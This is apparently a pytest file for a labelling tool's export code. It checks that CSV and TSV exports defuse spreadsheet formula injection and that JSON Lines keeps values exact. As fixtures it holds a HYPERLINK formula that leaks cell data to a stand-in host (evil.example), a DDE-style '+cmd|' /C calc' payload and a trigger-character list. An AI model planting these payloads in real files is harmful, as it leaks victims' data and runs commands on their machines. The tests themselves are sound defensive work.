"""Exports: spreadsheet formulas neutralised in every delimited export (OWASP), JSON Lines exact."""
import csv
import io
import json
import re
from pathlib import Path

from berds_core.cli import main
from berds_core.lab.exports import export_rows, neutralise, to_csv, to_jsonl, to_tsv, unneutralise
from berds_core.lab.store import Pair, Store
from berds_core.lab.tasks import read_pairs_tsv

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1,2)",
           "\tTAB", "\rCR", "'quoted", "''twice"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_neutralise_follows_owasp_and_can_be_undone():
    for value in HOSTILE:
        out = neutralise(value)
        assert out.startswith("'") and unneutralise(out) == value
    for value in ["plain text", "", "0.5", "-0.25", "+3", "1e-5", "-7", "mid=dle", "a-b"]:
        assert neutralise(value) == value  # plain numbers and harmless text are left alone
    assert neutralise(-3) == -3 and neutralise(None) is None  # only text is touched


def _db(tmp_path) -> Path:
    db = tmp_path / "lab.db"
    with Store(db) as s:
        s.add_pairs([Pair("=1+1", "@SUM(1+1)?", "-2+3 is the passage", "+cmd|' /C calc'!A0", title="@title"),
                     Pair("p2", "'Tis a question", "A plain passage.", "A view.", title="-rule")])
        s.label("ann", "=1+1", 1, note='=HYPERLINK("http://evil.example/?leak="&A1,"x")')
        s.label("ann", "p2", 0, note="\tindented note")
    return db


def _cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_cli_export_csv_and_tsv_carry_no_formula_and_jsonl_is_exact(tmp_path, capsys):
    db = _db(tmp_path)
    texts = {}
    for fmt in ("csv", "tsv", "jsonl"):
        out = tmp_path / f"labels.{fmt}"
        assert main(["annotations", "export", "--db", str(db), "--format", fmt, "--out", str(out)]) == 0
        texts[fmt] = out.read_text(encoding="utf-8")
    capsys.readouterr()
    for fmt, delim in (("csv", ","), ("tsv", "\t")):
        rows = _cells(texts[fmt], delim)
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if c.startswith(TRIGGERS)], fmt  # no cell a spreadsheet would run
        assert "'=1+1" in cells and "'@title" in cells and "''Tis a question" in cells
    # JSON Lines: exactly what was stored
    rows = [json.loads(line) for line in texts["jsonl"].splitlines()]
    assert {r["id"] for r in rows} == {"=1+1", "p2"}
    assert rows[0]["note"].startswith("=HYPERLINK(") and rows[1]["note"] == "\tindented note"
    # the TSV still reads back as a human-pairs TSV, exactly
    back = {p.pair_id: (p.question, p.document, p.perspective, p.title, lab)
            for _, p, lab in read_pairs_tsv(tmp_path / "labels.tsv")}
    assert back["=1+1"] == ("@SUM(1+1)?", "-2+3 is the passage", "+cmd|' /C calc'!A0", "@title", 1)
    assert back["p2"] == ("'Tis a question", "A plain passage.", "A view.", "-rule", 0)


def test_app_downloads_use_the_neutralising_writer(tmp_path):
    """Every CSV the pages offer is written by berds_core.lab.exports (no page writes CSV itself)."""
    with Store(_db(tmp_path)) as s:
        rows = export_rows(s)
    for text in (to_csv(rows), to_tsv(rows)):
        assert "=HYPERLINK" in text and not re.search(r'(^|[,\t"])=HYPERLINK', text)
    assert to_jsonl(rows).count("=HYPERLINK") == 1
    for page in sorted((ROOT / "pages").glob("*.py")) + sorted((ROOT / "studio_ui").glob("*.py")):
        src = page.read_text(encoding="utf-8")
        assert "csv.writer" not in src and "csv.DictWriter" not in src and ".to_csv(" not in src, page.name
